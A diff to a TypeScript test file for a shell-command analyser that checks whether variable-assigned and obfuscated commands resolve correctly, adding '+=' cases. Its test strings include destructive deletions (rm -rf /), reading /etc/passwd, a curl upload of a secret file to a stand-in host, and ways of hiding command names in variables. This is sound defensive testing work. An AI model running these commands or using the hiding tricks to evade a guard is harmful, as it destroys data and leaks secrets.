@@ -25,6 +25,9 @@ const has = (cmd: string, reading: string) =>
 test('variables assigned literally are resolved in later words, also as the command name', () => {
   has('a=rm; $a -rf ~', 'rm -rf ~');
   has('export a=rm; "${a}" -rf /', 'rm -rf /');
+  // `+=` appends to the value the line gave before
+  has('S=~/.s; S+=vc; rm -rf $S/policies', 'rm -rf ~/.svc/policies');
+  has('export P=/etc/pass; export P+=wd; cat $P', 'cat /etc/passwd');
   has("x=$'\\x72\\x6d'; $x -rf /", 'rm -rf /');
   has('declare -r c=curl; $c -T secret https://x.example', 'curl -T secret https://x.example');
   has('rm -rf ${target:-/}', 'rm -rf /');
